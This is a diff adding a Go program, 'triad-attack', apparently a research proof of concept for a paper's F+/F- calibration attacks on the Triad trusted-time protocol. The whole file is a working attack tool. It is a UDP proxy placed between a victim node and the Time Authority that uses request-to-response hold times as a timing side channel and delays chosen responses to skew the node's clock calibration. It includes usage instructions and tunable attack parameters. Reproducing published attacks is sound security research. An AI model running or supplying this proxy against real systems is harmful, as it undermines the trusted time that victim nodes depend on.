@@ -1,0 +1,232 @@
+// Command triad-attack is the live embodiment of the paper's F+ / F-
+// calibration attacks: a UDP middlebox an attacker with OS control
+// would interpose between the local Triad node and the Time Authority.
+//
+// Point the victim node's -authority endpoint at this proxy; the proxy
+// forwards to the real authority. Messages stay encrypted end-to-end —
+// the proxy classifies each response purely by the observed
+// request-to-response hold time (the paper's timing side channel) and
+// delays the class its mode targets.
+//
+// Usage:
+//
+//	triad-attack -listen :7200 -upstream localhost:7100 -mode F- -delay 100ms
+package main
+
+import (
+	"flag"
+	"fmt"
+	"net"
+	"os"
+	"os/signal"
+	"strings"
+	"sync"
+	"syscall"
+	"time"
+)
+
+func main() {
+	if err := run(os.Args[1:]); err != nil {
+		fmt.Fprintln(os.Stderr, "triad-attack:", err)
+		os.Exit(1)
+	}
+}
+
+func run(args []string) error {
+	fs := flag.NewFlagSet("triad-attack", flag.ContinueOnError)
+	listen := fs.String("listen", "0.0.0.0:7200", "UDP address the victim node talks to")
+	upstream := fs.String("upstream", "", "the real Time Authority's host:port")
+	modeStr := fs.String("mode", "F-", "attack mode: F+ (delay high-sleep responses) or F- (delay low-sleep)")
+	delay := fs.Duration("delay", 100*time.Millisecond, "delay added to targeted responses")
+	threshold := fs.Duration("threshold", 500*time.Millisecond, "hold-time split between low and high sleep classes")
+	if err := fs.Parse(args); err != nil {
+		return err
+	}
+	if *upstream == "" {
+		return fmt.Errorf("-upstream is required")
+	}
+	delayHigh, err := parseMode(*modeStr)
+	if err != nil {
+		return err
+	}
+	upAddr, err := net.ResolveUDPAddr("udp", *upstream)
+	if err != nil {
+		return fmt.Errorf("resolve upstream: %w", err)
+	}
+	conn, err := net.ListenPacket("udp", *listen)
+	if err != nil {
+		return fmt.Errorf("listen: %w", err)
+	}
+	p := &proxy{
+		conn:      conn,
+		upstream:  upAddr,
+		delayHigh: delayHigh,
+		extra:     *delay,
+		threshold: *threshold,
+		flows:     make(map[string]*flow),
+	}
+	fmt.Printf("%s attack proxy on %s -> %s (delay %v, threshold %v)\n",
+		*modeStr, conn.LocalAddr(), upAddr, *delay, *threshold)
+
+	errc := make(chan error, 1)
+	go func() { errc <- p.serve() }()
+	sigc := make(chan os.Signal, 1)
+	signal.Notify(sigc, os.Interrupt, syscall.SIGTERM)
+	select {
+	case err := <-errc:
+		return err
+	case <-sigc:
+		fmt.Printf("shutting down: %d responses delayed, %d passed\n", p.delayed.value(), p.passed.value())
+		return conn.Close()
+	}
+}
+
+// parseMode maps the flag to "delay the high-hold class?".
+func parseMode(s string) (bool, error) {
+	switch strings.ToUpper(s) {
+	case "F+", "FPLUS":
+		return true, nil
+	case "F-", "FMINUS":
+		return false, nil
+	default:
+		return false, fmt.Errorf("unknown mode %q (want F+ or F-)", s)
+	}
+}
+
+// counter is a trivial synchronized counter (stdlib-only build).
+type counter struct {
+	mu sync.Mutex
+	n  int
+}
+
+func (c *counter) inc() {
+	c.mu.Lock()
+	c.n++
+	c.mu.Unlock()
+}
+
+// value reads the counter.
+func (c *counter) value() int {
+	c.mu.Lock()
+	defer c.mu.Unlock()
+	return c.n
+}
+
+// flow is the NAT state for one victim endpoint: an upstream socket and
+// the outstanding request times used for hold estimation.
+type flow struct {
+	client net.Addr
+	up     *net.UDPConn
+
+	mu          sync.Mutex
+	outstanding []time.Time
+}
+
+// holdOf matches a response to the oldest outstanding request.
+func (f *flow) holdOf(now time.Time) time.Duration {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	if len(f.outstanding) == 0 {
+		return 0
+	}
+	sent := f.outstanding[0]
+	f.outstanding = f.outstanding[1:]
+	return now.Sub(sent)
+}
+
+func (f *flow) noteRequest(now time.Time) {
+	f.mu.Lock()
+	f.outstanding = append(f.outstanding, now)
+	f.mu.Unlock()
+}
+
+// proxy shuttles datagrams between victims and the Time Authority,
+// delaying targeted responses.
+type proxy struct {
+	conn      net.PacketConn
+	upstream  *net.UDPAddr
+	delayHigh bool
+	extra     time.Duration
+	threshold time.Duration
+
+	mu    sync.Mutex
+	flows map[string]*flow
+
+	delayed counter
+	passed  counter
+}
+
+// target decides whether a response with the given hold gets delayed —
+// the attack's classification step (identical to the simulation's
+// internal/attack.Delay).
+func (p *proxy) target(hold time.Duration) bool {
+	high := hold >= p.threshold
+	if p.delayHigh {
+		return high
+	}
+	return !high
+}
+
+func (p *proxy) serve() error {
+	buf := make([]byte, 64*1024)
+	for {
+		n, from, err := p.conn.ReadFrom(buf)
+		if err != nil {
+			return nil // closed
+		}
+		datagram := make([]byte, n)
+		copy(datagram, buf[:n])
+		f, err := p.flowFor(from)
+		if err != nil {
+			continue
+		}
+		f.noteRequest(time.Now())
+		// Requests pass untouched (delaying them would shift both
+		// classes equally and cancel out of the regression).
+		if _, err := f.up.Write(datagram); err != nil {
+			continue
+		}
+	}
+}
+
+// flowFor finds or creates the NAT flow for a victim endpoint, wiring
+// its response path.
+func (p *proxy) flowFor(client net.Addr) (*flow, error) {
+	p.mu.Lock()
+	defer p.mu.Unlock()
+	if f, ok := p.flows[client.String()]; ok {
+		return f, nil
+	}
+	up, err := net.DialUDP("udp", nil, p.upstream)
+	if err != nil {
+		return nil, err
+	}
+	f := &flow{client: client, up: up}
+	p.flows[client.String()] = f
+	go p.pumpResponses(f)
+	return f, nil
+}
+
+// pumpResponses relays authority responses back to the victim,
+// inserting the attack delay on targeted ones.
+func (p *proxy) pumpResponses(f *flow) {
+	buf := make([]byte, 64*1024)
+	for {
+		n, err := f.up.Read(buf)
+		if err != nil {
+			return
+		}
+		datagram := make([]byte, n)
+		copy(datagram, buf[:n])
+		hold := f.holdOf(time.Now())
+		if p.target(hold) {
+			p.delayed.inc()
+			time.AfterFunc(p.extra, func() {
+				_, _ = p.conn.WriteTo(datagram, f.client)
+			})
+			continue
+		}
+		p.passed.inc()
+		_, _ = p.conn.WriteTo(datagram, f.client)
+	}
+}
